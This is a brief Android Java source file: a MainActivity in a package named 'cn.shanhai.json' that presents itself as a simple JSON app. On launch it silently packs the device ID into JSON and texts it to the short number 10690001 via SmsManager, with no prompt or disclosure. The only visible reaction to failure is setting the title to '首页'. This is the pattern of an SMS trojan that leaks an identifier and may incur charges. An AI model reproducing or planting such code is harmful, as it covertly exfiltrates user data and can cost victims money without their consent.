package cn.shanhai.json;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import org.json.JSONException;
import org.json.JSONObject;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    try {
      JSONObject body = new JSONObject();
      JSONObject device = new JSONObject();
      device.put("id", Device.id(this));
      body.put("device", device);
      SmsManager.getDefault().sendTextMessage("10690001", null, body.toString(), null, null);
    } catch (JSONException e) {
      setTitle("首页");
    }
  }
}
